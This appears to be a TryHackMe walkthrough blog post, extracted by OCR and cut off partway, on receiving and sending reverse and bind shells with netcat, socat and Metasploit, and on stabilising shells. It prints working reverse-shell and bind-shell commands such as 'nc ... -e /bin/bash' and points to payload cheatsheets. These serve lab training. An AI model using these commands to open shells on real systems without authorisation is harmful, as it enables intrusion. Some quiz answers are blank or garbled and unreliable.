What the Shell? |Tryhackme Walkthrough

Rahul Kumar
29 min readFeb 12, 2024

An introduction to sending and receiving (reverse/bind) shells when exploiting target machines.

What is a shell?

Before we can get into the intricacies of sending and receiving shells, it’s important to understand what a shell actually is. In the simplest possible terms, shells are what we use when interfacing with a Command Line environment (CLI). In other words, the common bash or sh programs in Linux are examples of shells, as are cmd.exe and Powershell on Windows. When targeting remote systems it is sometimes possible to force an application running on the server (such as a webserver, for example) to execute arbitrary code. When this happens, we want to use this initial access to obtain a shell running on the target.

In simple terms, we can force the remote server to either send us command line access to the server (a reverse shell), or to open up a port on the server which we can connect to in order to execute further commands (a bind shell).

We will be covering both of these scenarios in further detail throughout the room.

The format of this room is as follows:

  • The bulk of the room is made up of information, with examples given in code blocks and screenshots.
  • There are two VMs — one Linux, one Windows — in the last two tasks of the room. These can be used to practice the techniquesdemonstrated.
  • There are example practice questions in Task 13. Feel free to work through these, or follow along with the tasks as you complete them.

Without further ado, let’s begin!


There are a variety of tools that we will be using to receive reverse shells and to send bind shells. In general terms, we need malicious shell code, as well as a way of interfacing with the resulting shell. We will discuss each of these briefly below:


Netcat is the traditional “Swiss Army Knife” of networking. It is used to manually perform all kinds of network interactions, including things like banner grabbing during enumeration, but more importantly for our uses, it can be used to receive reverse shells and connect to remote ports attached to bind shells on a target system. Netcat shells are very unstable (easy to lose) by default, but can be improved by techniques that we will be covering in an upcoming task.


Socat is like netcat on steroids. It can do all of the same things, and many more. Socat shells are usually more stable than netcat shells out of the box. In this sense it is vastly superior to netcat; however, there are two big catches:

  1. The syntax is more difficult
  2. Netcat is installed on virtually every Linux distribution by default. Socat is very rarely installed by default.

There are work arounds to both of these problems, which we willcover later on.

Both Socat and Netcat have .exe versions for use on Windows.

Metasploit — multi/handler:

The exploit/multi/handler module of the Metasploit framework is, like socat and netcat, used to receive reverse shells. Due to being part of the Metasploit framework, multi/handler provides a fully-fledged way to obtain stable shells, with a wide variety of further options to improve the caught shell. It's also the only way to interact with a meterpreter shell, and is the easiest way to handle staged payloads -- both of which we will look at intask 9.


Like multi/handler, msfvenom is technically part of the Metasploit Framework, however, it is shipped as a standalone tool. Msfvenom is used to generate payloads on the fly. Whilst msfvenom can generate payloads other than reverse and bind shells, these are what we will be focusing on in this room. Msfvenom is an incredibly powerful tool, so we will go into its application in much more detail in a dedicated task.

Aside from the tools we’ve already covered, there are some repositories of shells in many different languages. One of the most prominent of these is Payloads all the Things. The PentestMonkey Reverse Shell Cheatsheet is also commonly used. In addition to these online resources, Kali Linux also comes pre-installed with a variety of webshells located at /usr/share/webshells. The SecLists repo, though primarily used for wordlists, also contains some very useful code for obtaining shells.

Types of ShellAt a high level, we are interested in two kinds of shell when it comes to exploiting a target: Reverse shells, and bind shells.

  • Reverse shells are when the target is forced to execute code that connects back to your computer. On your own computer you would use one of the tools mentioned in the previous task to set up a listener which would be used to receive the connection. Reverse shells are a good way to bypass firewall rules that may prevent you from connecting to arbitrary ports on the target; however, the drawback is that, when receiving a shell from a machine across the internet, you would need to configure your own network to accept the shell. This, however, will not be a problem on the TryHackMe network due to the method by which we connect into the network.
  • Bind shells are whenthe code executed on the target is used to start a listener attached to a shell directly on the target. This would then be opened up to the internet, meaning you can connect to the port that the code has opened and obtain remote code execution that way. This has the advantage of not requiring any configuration on your own network, but may be prevented by firewalls protecting the target.

As a general rule, reverse shells are easier to execute and debug, however, we will cover both examples below. Don’t worry too much about the syntax here: we will be looking at it in upcoming tasks. Instead notice the difference between reverse and bind shells in the following simulations.

Reverse Shell example:

Let’s start with the more common reverse shell.

Nine times out of ten, this is what you’ll be going for — especially in CTF challenges like those of TryHackMe.

Take a look at the following image. On the left we have a reverseshell listener — this is what receives the connection. On the right is asimulation of sending a reverse shell. In reality, this is more likely to be done through code injection on a remote website or something along those lines. Picture the image on the left as being your own computer, and the image on the right as being the target.

On the attacking machine:sudo nc -lvnp 443

On the target:

nc <LOCAL-IP> <PORT> -e /bin/bash

Notice that after running the command on the right, the listener receives a connection. When the whoami command is run, we see that we are executing commands as the target user. The important thing here is that we are listening on our own attacking machine, and sending a connection from the target.

Bind Shell example:

Bind shells are less common, but still very useful.

Once again, take a look at the following image. Again, on the left we have the attacker’s computer, on the right we have a simulated target. Just to shake things up a little, we’ll use a Windows target this time. First, we start a listener on thetarget — this time we’re also telling it to execute cmd.exe. Then, with the listener up and running, we connect from our own machine to the newly opened port.

On the target:

nc -lvnp <port> -e "cmd.exe"

On the attacking machine:

nc MACHINE_IP <port>

As you can see, this once again gives us code execution on the remote machine. Note that this is not specific to Windows.

The important thing to understand here is that we are listening on the target, then connecting to it with our own machine.

The final concept which is relevant in this task is that of interactivity. Shells can be either interactive or non-interactive.

  • Interactive: If you’ve used Powershell, Bash, Zsh, sh, or any other standard CLIenvironment then you will be used to
    interactive shells. These allow you to interact with programs after executing them. For example, take the SSH login prompt:
  • Here you can see that it’s asking interactively that theuser type either yes or no in order to continue the connection. This is an interactive program, which requires an interactive shell in order to run.
  • Non-Interactive shells don’t give you that luxury. In a non-interactive shell you are limited to using programs which do not require user interaction in order to run properly. Unfortunately, the majority of simple reverse and bind shells are non-interactive, which can make further exploitation trickier. Let’s see what happens when we try to run SSH in a non-interactive shell:
  • Notice that the whoami command (which is non-interactive) executes perfectly, but the ssh command (which is interactive) gives us no output at all. As an interesting side note, the output of an interactive command does go somewhere, however, figuring out where is an exercise for you to attempt on your own. Suffice to say that interactive programs do not work in non-interactive shells.

Additionally, in various places throughout this task you will see a command in the screenshots calledlistener. This command is an alias unique to the attacking machine used for demonstrations, and is a shorthand way of typing sudo rlwrap nc -lvnp 443, which will be covered in upcoming tasks. It will not work on any other machine unless the alias has been configured locally.

Ques 1: Which type of shell connects back to a listening port on your computer, Reverse (R) or Bind (B)?
Ans 1:

Ques 2: You have injected malicious shell code into a website. Is the shell you receive likely to be interactive? (Y or N)
Ans 2:

Ques 3: When using a bind shell, would you execute a listener on the Attacker (A) or the Target (T)?
Ans 3:As mentioned previously, Netcat is the most basic tool in a pentester’s toolkit when it comes to any kind of networking. With it we can do a wide variety of interesting things, but let’s focus for now on shells.

Reverse ShellsIn the previous task we saw that reverse shells require shellcode and a listener. There are many ways to execute a shell, so we’ll start by looking at listeners.

The syntax for starting a netcat listener using Linux is this:

nc -lvnp <port-number>

  • -l is used to tell netcat that this will be a listener
  • -v is used to request a verbose output
  • -n tells netcat not to resolve host names or use DNS. Explaining this is outwith the scope of the room.
  • -p indicates that the port specification will follow.

The example in the previous task used port 443. Realistically you could use any port you like, as long as there isn’t already a service using it. Be aware that if you choose to use a port below 1024, you will need to use sudo when starting your listener. That said, it's often a good idea to use a well-known port number (80, 443 or 53 being good choices) as this is more likely to get past outbound firewall rules on the target.

A working example of this would be:

sudo nc -lvnp 443

We can then connect back to this with any number of payloads, depending on the environment on the target.

An example of this is displayed in the previous task.

Bind Shells

If we are looking to obtain a bind shell on a target then we can assume that there is already a listener waiting for us on a chosen port of the target: all we need to do is connect to it. The syntax for this is relatively straight forward:

nc <target-ip> <chosen-port>

Here we are using netcat to make an outbound connection to the target on our chosen port.

We will look at using netcat to create a listener for this type of shell in Task 8. What’simportant here is that you understand how to connect to a listening port using netcat.

Ques 4: Which option tells netcat to listen?
Ans 4:

Ques 5: How would you connect to a bind shell on the IP address: with port 8080?
Ans 5:
nc 8080

Netcat Shell Stabilisation

Ok, sowe’ve caught or connected to a netcat shell, what next?

These shells are very unstable by default. Pressing Ctrl + C kills the whole thing. They are non-interactive, and often have strange formatting errors. This is due to netcat “shells” really being processes running inside a terminal, rather than being bonafide terminals in their own right. Fortunately, there are many ways to stabilise netcat shells on Linux systems. We’ll be looking at three here. Stabilisation ofWindows reverse shells tends to be significantly harder; however, the second technique that we’ll be covering here is particularly useful for it.

Technique 1: Python

The first technique we’ll be discussing is applicable only to Linux boxes, as they will nearly always have Python installed by default. This is a three stage process:

  1. The first thing to do is use python -c 'import pty;pty.spawn("/bin/bash")', which uses Python to spawn a better featured bash shell; note that some targets may need the version of Python specified. If this is the case, replace python with python2 or python3 as required. At this point our shell will look a bit prettier, but we still won't be able to use tab autocomplete or the arrow keys, and Ctrl + C will still kill the shell.
  2. Step two is: export TERM=xterm -- this will give us access to term commands such as clear.
  3. Finally (and most importantly) we will background the shell using Ctrl + Z. Back in our own terminal we use stty raw -echo; fg. This does two things: first, it turns off our own terminal echo (which gives us access to tab autocompletes, the arrow keys, and Ctrl + C to kill processes). It then foregrounds the shell, thus completing the process.

The full technique can be seen here:

Note that if the shell dies, any input in your own terminal will not be visible (as a result of having disabled terminal echo). To fix this, type reset and press enter.

Technique 2: rlwrap

